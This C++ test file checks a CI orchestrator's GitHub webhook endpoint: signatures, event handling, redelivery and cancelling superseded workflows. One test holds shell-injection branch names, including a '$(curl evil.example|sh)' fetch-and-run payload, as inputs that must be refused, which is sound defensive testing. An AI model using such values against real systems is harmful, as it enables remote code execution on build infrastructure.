// POST /hooks/github over real HTTP: every answer of docs/webhooks.md, what
// each one wrote, and when the orchestrator was told.
#include <fstream>
#include <sstream>

#include "../test_paths.h"
#include "api_fixture.h"
#include "github/signature.h"
#include "protocol/protocol.h"

namespace api::testing {
namespace {

json fixture(const std::string& name) {
  std::ifstream in(testpaths::source_dir() / "tests/github/fixtures" / name);
  if (!in) throw std::runtime_error("missing fixture " + name);
  std::ostringstream text;
  text << in.rdbuf();
  return json::parse(text.str());
}

constexpr const char* kRepository = "https://github.com/baxterthehacker/public-repo";
constexpr const char* kHeadSha = "0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c";

class HookTest : public ApiTest {
 protected:
  void SetUp() override {
    ApiTest::SetUp();
    if (!store_) return;
    const json project = create("baxterthehacker", "public-repo", kRepository);
    project_id_ = project["id"];
    secret_ = project["webhook_secret"];
  }

  // A delivery as GitHub sends it: no bearer token, signed with the project's secret.
  Reply deliver(const std::string& event, const std::string& body, const std::string& delivery = "delivery-1") {
    return deliver_signed(event, body, "sha256=" + github::hmac_sha256_hex(secret_, body), delivery);
  }
  Reply deliver(const std::string& event, const json& body, const std::string& delivery = "delivery-1") {
    return deliver(event, body.dump(), delivery);
  }
  Reply deliver_signed(const std::string& event, const std::string& body, const std::string& signature,
                       const std::string& delivery = "delivery-1") {
    std::vector<std::string> headers{"Content-Type: application/json", "X-GitHub-Event: " + event,
                                     "X-GitHub-Delivery: " + delivery};
    if (!signature.empty()) headers.push_back("X-Hub-Signature-256: " + signature);
    return client_->request("POST", "/hooks/github", body, headers);
  }

  // The queued workflow a 202 names, checked against the store.
  store::Workflow queued(const Reply& reply) {
    EXPECT_EQ(reply.status, 202) << reply.body;
    const json body = json::parse(reply.body);
    EXPECT_EQ(body["outcome"], "queued");
    const std::string id = body["id"];
    EXPECT_EQ(reply.headers.at("location"), "/api/v1/workflows/" + id);
    auto workflow = store_->get_workflow(id);
    EXPECT_TRUE(workflow) << workflow.error().message;
    EXPECT_EQ(workflow->project_id, project_id_);
    EXPECT_EQ(workflow->status, core::Status::Queued);
    EXPECT_EQ(body["event"]["name"], workflow->event.name);
    return *workflow;
  }

  // The reply queued the project's one workflow, for `expected`, and said so once.
  void expect_only_workflow(const Reply& reply, const core::Event& expected) {
    const store::Workflow workflow = queued(reply);
    EXPECT_EQ(workflow.delivery_id, "delivery-1");
    EXPECT_EQ(protocol::to_json(workflow.event), protocol::to_json(expected));
    EXPECT_EQ(workflow_count(project_id_), 1u);
    EXPECT_EQ(workflows_queued_, 1);
  }

  // An answer that changed nothing: no workflow, no call of workflow_queued.
  void expect_nothing_queued(const Reply& reply, int status, const std::string& outcome_or_code) {
    EXPECT_EQ(reply.status, status) << reply.body;
    const json body = json::parse(reply.body);
    EXPECT_EQ(body.contains("error") ? body["error"]["code"] : body["outcome"], outcome_or_code) << reply.body;
    EXPECT_EQ(workflow_count(project_id_), 0u);
    EXPECT_EQ(workflows_queued_, 0);
  }

  std::string project_id_;
  std::string secret_;
};

TEST_P(HookTest, APingIsAnsweredAndQueuesNothing) {
  expect_nothing_queued(deliver("ping", fixture("ping.json")), 200, "ping");
}

TEST_P(HookTest, APushToABranchQueuesAWorkflow) {
  expect_only_workflow(deliver("push", fixture("push_branch.json")),
                       {.name = "push",
                        .branch = "main",
                        .sha = kHeadSha,
                        .changed_paths = {".factory/build.hcl", "Makefile", "README.md", "scripts/build.sh",
                                          "src/main.c"}});
}

// The workflow names the GitHub account whose action sent the delivery.
TEST_P(HookTest, AWebhooksWorkflowWasTriggeredByItsSender) {
  const store::Workflow workflow = queued(deliver("pull_request", fixture("pull_request_opened_fork.json")));
  EXPECT_EQ(workflow.origin.triggered_by, "octocat");
  const json view = json::parse(call("GET", "/api/v1/workflows/" + workflow.id).body);
  EXPECT_EQ(view["actors"], (json{{"triggered_by", "octocat"}, {"cancelled_by", nullptr}, {"rerun_of", nullptr}}));
  json anonymous = fixture("push_branch.json");
  anonymous.erase("sender");
  EXPECT_EQ(queued(deliver("push", anonymous, "delivery-2")).origin.triggered_by, "");
}

TEST_P(HookTest, APushOfATagQueuesATagWorkflow) {
  expect_only_workflow(deliver("push", fixture("push_tag_annotated.json")),
                       {.name = "tag", .tag = "v1.2.0", .sha = kHeadSha});
}

TEST_P(HookTest, AnOpenedPullRequestFromAForkQueuesAWorkflow) {
  expect_only_workflow(
      deliver("pull_request", fixture("pull_request_opened_fork.json")),
      {.name = "pull_request", .branch = "changes", .target_branch = "main", .sha = kHeadSha, .from_fork = true});
}

TEST_P(HookTest, DeliveriesThatStartNoWorkflowAreAnsweredWithTheReason) {
  struct Ignored {
    const char* event;
    const char* payload;
    const char* reason;
  };
  const Ignored deliveries[] = {
      {"pull_request", "pull_request_closed.json", "pull request action 'closed' starts no workflow"},
      {"push", "push_branch_deleted.json", "refs/heads/feature/old-parser was deleted"},
      {"issues", "issues_opened.json", "event 'issues' is not supported"},
  };
  for (const auto& [event, payload, reason] : deliveries) {
    const Reply reply = deliver(event, fixture(payload));
    expect_nothing_queued(reply, 200, "ignored");
    EXPECT_EQ(json::parse(reply.body)["reason"], reason);
  }
}

TEST_P(HookTest, AMalformedBodyIsABadRequest) {
  const Reply reply = deliver("push", std::string{"{\"ref\": \"refs/heads/main\""});
  expect_nothing_queued(reply, 400, "invalid");
  json no_sha = fixture("push_branch.json");
  no_sha["after"] = "not-a-commit";
  expect_nothing_queued(deliver("push", no_sha), 400, "invalid");
  expect_nothing_queued(deliver("", fixture("push_branch.json")), 400, "invalid");  // no X-GitHub-Event
  expect_nothing_queued(deliver("push", fixture("push_branch.json"), ""), 400, "invalid");  // no X-GitHub-Delivery
}

json unknown_repository_push() {
  json payload = fixture("push_branch.json");
  json& repository = payload["repository"];
  repository["full_name"] = "someone/else";
  repository["name"] = "else";
  repository["owner"] = {{"login", "someone"}, {"name", "someone"}};
  repository["html_url"] = "https://github.com/someone/else";
  repository["clone_url"] = "https://github.com/someone/else.git";
  repository["ssh_url"] = "git@github.com:someone/else.git";
  return payload;
}

TEST_P(HookTest, ASignedDeliveryForAnUnknownRepositoryIsNotFound) {
  expect_nothing_queued(deliver("push", unknown_repository_push()), 404, "not_found");
}

// Without a signature nothing tells a repository that has a project from one
// that has none: both are refused alike, before any lookup.
TEST_P(HookTest, AnUnsignedDeliveryIsUnauthorizedWhateverTheRepository) {
  for (const json& payload : {fixture("push_branch.json"), unknown_repository_push()}) {
    for (const char* signature : {"", "sha1=0123", "sha256=", "sha256=xyz", "sha256=0123456789abcdef"}) {
      const Reply reply = deliver_signed("push", payload.dump(), signature);
      expect_nothing_queued(reply, 401, "unauthorized");
      EXPECT_EQ(json::parse(reply.body)["error"]["message"],
                "X-Hub-Signature-256 is missing or not 'sha256=' and 64 hex digits");
    }
  }
}

// Branch and tag names go to git and may reach a `run` script through
// ${event.branch}: a name git would refuse, or that a shell would act on,
// makes the delivery a bad request, even correctly signed.
TEST_P(HookTest, ARefThatIsNotAValidBranchOrTagNameIsABadRequest) {
  for (const char* ref : {"refs/heads/a b", "refs/heads/\x1b[31mred", "refs/heads/$(id)", "refs/heads/`id`",
                          "refs/heads/x;id", "refs/heads/a..b", "refs/heads/-rf", "refs/heads/x.lock",
                          "refs/tags/v1:2", "refs/heads/a//b", "refs/heads/.hidden", "refs/heads/x@{1}"}) {
    json payload = fixture("push_branch.json");
    payload["ref"] = ref;
    const Reply reply = deliver("push", payload);
    expect_nothing_queued(reply, 400, "invalid");
    EXPECT_TRUE(json::parse(reply.body)["error"]["message"].get<std::string>().starts_with("ref names '")) << reply.body;
  }
  for (const char* side : {"head", "base"}) {
    json payload = fixture("pull_request_opened_fork.json");
    payload["pull_request"][side]["ref"] = "feature/$(curl evil.example|sh)";
    expect_nothing_queued(deliver("pull_request", payload), 400, "invalid");
  }
  json payload = fixture("push_branch.json");
  payload["ref"] = "refs/heads/feature/JIRA-12_fix.v2+more#3";  // unusual but harmless
  queued(deliver("push", payload));
}

TEST_P(HookTest, TheProjectIsFoundByAnyOfTheRepositoryUrlsOrByOwnerAndName) {
  const char* urls[] = {"https://github.com/baxterthehacker/public-repo.git",
                        "git@github.com:baxterthehacker/public-repo.git",
                        "https://mirror.example.com/baxterthehacker/public-repo.git"};
  for (const char* url : urls) {
    ASSERT_TRUE(store_->update_project(project_id_, {.url = url}));
    queued(deliver("push", fixture("push_branch.json"), std::string{"delivery-"} + url));
  }
  EXPECT_EQ(workflow_count(project_id_), 3u);
  EXPECT_EQ(workflows_queued_, 3);
}

TEST_P(HookTest, ABadSignatureIsUnauthorized) {
  const std::string body = fixture("push_branch.json").dump();
  const std::string other_secret = "sha256=" + github::hmac_sha256_hex("not the secret", body);
  expect_nothing_queued(deliver_signed("push", body, other_secret), 401, "unauthorized");
  const std::string other_body = "sha256=" + github::hmac_sha256_hex(secret_, body + " ");
  expect_nothing_queued(deliver_signed("push", body, other_body), 401, "unauthorized");
  expect_nothing_queued(deliver_signed("push", body, "sha1=0123"), 401, "unauthorized");
}

TEST_P(HookTest, AMissingSignatureIsUnauthorized) {
  expect_nothing_queued(deliver_signed("push", fixture("push_branch.json").dump(), ""), 401, "unauthorized");
  expect_nothing_queued(deliver_signed("ping", fixture("ping.json").dump(), ""), 401, "unauthorized");
}

TEST_P(HookTest, ARedeliveryAnswersTheFirstWorkflow) {
  const store::Workflow first = queued(deliver("push", fixture("push_branch.json")));
  const Reply again = deliver("push", fixture("push_branch.json"));
  EXPECT_EQ(again.status, 200) << again.body;
  EXPECT_EQ(json::parse(again.body)["outcome"], "duplicate");
  EXPECT_EQ(json::parse(again.body)["id"], first.id);
  EXPECT_EQ(workflow_count(project_id_), 1u);
  EXPECT_EQ(workflows_queued_, 1);
}

TEST_P(HookTest, PayloadsFarOverTheApiBodyLimitAreAccepted) {
  json payload = fixture("push_branch.json");
  payload["padding"] = std::string(1024 * 1024, 'x');  // GitHub's payloads go up to 25 MB
  queued(deliver("push", payload));
}

// Superseding (docs/webhooks.md): a newer push or pull request update
// cancels the older unfinished workflows of its branch, when the project says so.
class SupersedeTest : public HookTest {
 protected:
  Reply push_to(const std::string& branch, const std::string& delivery) {
    json payload = fixture("push_branch.json");
    payload["ref"] = "refs/heads/" + branch;
    return deliver("push", payload, delivery);
  }

  void set(const std::string& setting, bool on) {
    const Reply reply = call("PUT", "/api/v1/projects/" + project_id_, json{{setting, on}});
    ASSERT_EQ(reply.status, 200) << reply.body;
  }

  store::Workflow workflow(const std::string& id) { return store_->get_workflow(id).value(); }

  void expect_cancelled_by(const std::string& id, const store::Workflow& newer) {
    const store::Workflow superseded = workflow(id);
    EXPECT_EQ(superseded.status, core::Status::Cancelled);
    EXPECT_EQ(superseded.status_reason, "superseded by workflow " + newer.id);
    EXPECT_EQ(superseded.cancelled_by, "") << "no person cancelled it";
  }
};

TEST_P(SupersedeTest, ANewPushCancelsTheQueuedOlderOneOfItsBranchOnly) {
  set("cancel_superseded_pushes", true);
  const store::Workflow first = queued(push_to("main", "d1"));
  const store::Workflow feature = queued(push_to("feature", "d2"));
  const store::Workflow second = queued(push_to("main", "d3"));
  expect_cancelled_by(first.id, second);
  EXPECT_EQ(workflow(feature.id).status, core::Status::Queued);
  EXPECT_EQ(workflow(second.id).status, core::Status::Queued);
}

TEST_P(SupersedeTest, ARunningOlderPushIsAskedToCancelThroughItsAgent) {
  set("cancel_superseded_pushes", true);
  auto agent = store_->create_token("pool", store::TokenScope::Agent);
  ASSERT_TRUE(agent);
  const store::Workflow first = queued(push_to("main", "d1"));
  const Reply claimed = agent_call("/api/v1/agent/claim", {{"wait_ms", 5000}}, agent->secret);
  ASSERT_EQ(claimed.status, 200);
  const std::string lease = json::parse(claimed.body)["lease"];
  const std::string heartbeat = "/api/v1/agent/workflows/" + first.id + "/heartbeat";
  EXPECT_EQ(json::parse(agent_call(heartbeat, json::object(), agent->secret, lease).body)["cancel"], false);

  queued(push_to("main", "d2"));
  EXPECT_EQ(json::parse(agent_call(heartbeat, json::object(), agent->secret, lease).body)["cancel"], true);
  EXPECT_EQ(workflow(first.id).status, core::Status::Running);  // until its agent stops it
}

TEST_P(SupersedeTest, PushesSupersedeNothingByDefaultNorOnARedelivery) {
  const store::Workflow first = queued(push_to("main", "d1"));
  const store::Workflow second = queued(push_to("main", "d2"));
  EXPECT_EQ(workflow(first.id).status, core::Status::Queued);

  set("cancel_superseded_pushes", true);
  EXPECT_EQ(json::parse(push_to("main", "d2").body)["outcome"], "duplicate");
  EXPECT_EQ(workflow(first.id).status, core::Status::Queued);
  EXPECT_EQ(workflow(second.id).status, core::Status::Queued);
}

TEST_P(SupersedeTest, PullRequestUpdatesSupersedeByDefaultUnlessTurnedOff) {
  json update = fixture("pull_request_synchronize.json");
  const store::Workflow first = queued(deliver("pull_request", update, "d1"));
  update["pull_request"]["base"]["ref"] = "release";
  const store::Workflow other_target = queued(deliver("pull_request", update, "d2"));
  const store::Workflow second = queued(deliver("pull_request", fixture("pull_request_synchronize.json"), "d3"));
  expect_cancelled_by(first.id, second);
  EXPECT_EQ(workflow(other_target.id).status, core::Status::Queued);

  set("cancel_superseded_pull_requests", false);
  queued(deliver("pull_request", fixture("pull_request_synchronize.json"), "d4"));
  EXPECT_EQ(workflow(second.id).status, core::Status::Queued);
}

INSTANTIATE_TEST_SUITE_P(Backends, SupersedeTest, ::testing::ValuesIn(kBackends), backend_name);
INSTANTIATE_TEST_SUITE_P(Backends, HookTest, ::testing::ValuesIn(kBackends), backend_name);

}  // namespace
}  // namespace api::testing
